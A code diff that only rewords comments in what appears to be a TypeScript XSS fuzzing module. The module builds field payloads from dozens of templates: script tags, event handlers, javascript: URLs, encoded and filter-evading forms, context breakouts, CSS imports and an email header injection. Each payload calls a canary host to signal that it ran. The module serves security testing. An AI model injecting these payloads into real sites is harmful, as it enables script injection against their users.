@@ -1,7 +1,7 @@
-/** A host that does not exist: a request to it proves that a payload was executed. */
+/** A host without an address: a request proves execution. */
 export const CANARY = "canary.example";
 
-/** Code with a visible effect when executed: a watched function call, a dialog, a request. */
+/** Visible when executed: watched call, dialog, request. */
 const CODES = (id: number): readonly string[] => [
   `__xss(${id})`,
   `alert(${id})`,
@@ -11,7 +11,7 @@ const CODES = (id: number): readonly string[] => [
   `new Image().src='//${CANARY}/${id}'`,
 ];
 
-/** CODE is executed, HOST is requested. */
+/** CODE is executed, HOST requested. */
 const TEMPLATES: readonly string[] = [
   ...["<script>CODE</script>", "<ScRiPt >CODE</sCrIpT >", "<script src=//HOST/x.js></script>"],
   ...["<script type=module>CODE</script>", "<scr<script>ipt>CODE</scr</script>ipt>", "<script\\x20>CODE</script>"],
@@ -41,7 +41,7 @@ const TEMPLATES: readonly string[] = [
   "<div popover onbeforetoggle=CODE id=p></div><button popovertarget=p autofocus>x</button>",
   "<xss contenteditable autofocus onfocus=CODE tabindex=1>x</xss>",
   "<template shadowrootmode=open><script>CODE</script></template>",
-  // Payloads that break out of their context.
+  // They break out of their context.
   ...['"><script>CODE</script>', "'><script>CODE</script>", '" autofocus onfocus=CODE x="'],
   ...["' autofocus onfocus=CODE x='", '" onmouseover=CODE style="position:fixed;inset:0'],
   ...["</script><script>CODE</script>", "</script ><svg onload=CODE>"],
@@ -60,13 +60,13 @@ const TEMPLATES: readonly string[] = [
   ...["javascript:CODE", "JaVaScRiPt:CODE", " javascript:CODE", "\u0001javascript:CODE", "java\nscript:CODE"],
   ...["javascript&colon;CODE", "javascript://%0aCODE", "data:text/html,<script>CODE</script>", "vbscript:CODE"],
   ...['https://HOST/"onerror="CODE', "//HOST/x.js", "/\\HOST/x.js", "https://HOST/?<script>CODE</script>"],
-  // Encoded forms, for code that decodes once too often.
+  // Encoded, for code with one decoding too many.
   ...["&lt;script&gt;CODE&lt;/script&gt;", "&amp;lt;script&amp;gt;CODE&amp;lt;/script&amp;gt;"],
   ...["&#60;script&#62;CODE&#60;/script&#62;", "%3Cscript%3ECODE%3C/script%3E"],
   ...["%253Cscript%253ECODE%253C/script%253E", "\\x3cscript\\x3eCODE\\x3c/script\\x3e"],
   ...["+ADw-script+AD4-CODE+ADw-/script+AD4-", "\uff1cscript\uff1eCODE\uff1c/script\uff1e"],
   ...["<\u0000script>CODE</script>", "<scrıpt>CODE</scrıpt>", "\u202e<script>CODE</script>"],
-  // Styles, and names that scripts read from the DOM.
+  // Styles, and DOM names read by scripts.
   ...["<style>@import '//HOST/x.css';</style>", "x;background:url(//HOST/x)"],
   ...["<b style=\"background:url('//HOST/x')\">x</b>", "expression(CODE)"],
   "<a id=__remixContext></a><a id=__remixManifest href=//HOST/x.js></a>",
@@ -79,7 +79,7 @@ const TEMPLATES: readonly string[] = [
   ...["\r\nBcc: evil@HOST\r\n\r\n<script>CODE</script>", "<plaintext>", "<!--"],
 ];
 
-/** Templates that swallow everything after them. */
+/** Swallows all text after it. */
 const isLast = (template: string) => /^<(?:plaintext|!--)/.test(template);
 
 export const payloads = (count: number): string[] =>
@@ -90,11 +90,11 @@ export const payloads = (count: number): string[] =>
     return template.replaceAll("CODE", code).replaceAll("HOST", CANARY);
   });
 
-/** Bundles of `each` payloads for one field; those that swallow the rest come last. */
+/** With `each` payloads, swallowing ones last. */
 export function bundles(count: number, each: number): string[] {
   const all = payloads(count);
   const size = Math.ceil(count / each);
-  // Taken far apart in the list, so that different kinds share a field.
+  // Far apart in the list, to mix the kinds.
   return Array.from({ length: size }, (_, at) =>
     all
       .filter((_payload, place) => place % size === at)
